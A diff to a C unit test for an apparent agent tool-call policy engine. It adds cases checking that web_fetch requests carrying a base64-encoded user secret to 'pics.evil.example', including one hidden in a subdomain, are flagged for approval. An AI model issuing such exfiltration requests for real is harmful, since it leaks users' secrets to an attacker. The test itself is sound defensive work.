@@ -33,7 +33,7 @@ static int set_up(void **state) {
     snprintf(w->directory, sizeof w->directory, "/tmp/bzr-action-XXXXXX");
     if (!mkdtemp(w->directory) || bzr_engine_new(NULL, &w->engine)) return -1;
     snprintf(w->path, sizeof w->path, "%s/s.db", w->directory);
-    if (bzr__host_open(w->engine, w->path, &w->host)) return -1;
+    if (bzr__host_open(w->engine, NULL, w->path, &w->host)) return -1;
     w->host.session = BZR__S("s1");
     *state = w;
     return 0;
@@ -168,6 +168,9 @@ static void sees_data_leaving_by_reading(void **state) {
     browse(w, "https://example.com/", "Pictures are at https://pics.evil.example/logo.png for all.");
     decides(w, "web_fetch", "{\"url\":\"https://pics.evil.example/logo.png\"}", "allow");
     decides(w, "web_fetch", "{\"url\":\"https://pics.evil.example/x?d=c2VjcmV0IHRva2VuIG9mIHRoZSB1c2Vy\"}", "ask");
+    decides(w, "web_fetch", "{\"url\":\"https://c2VjcmV0IHRva2VuIG9mIHRoZSB1c2Vy.pics.evil.example/\"}", "ask");
+    decides(w, "web_fetch", "{\"url\":\"https://pics.evil.example/gallery/summer-holidays-in-2026/index.html\"}",
+            "allow");
     decides(w, "web_fetch", "{\"url\":\"https://docs.python.org/3/library/functions.html#print\"}", "allow");
 }
 
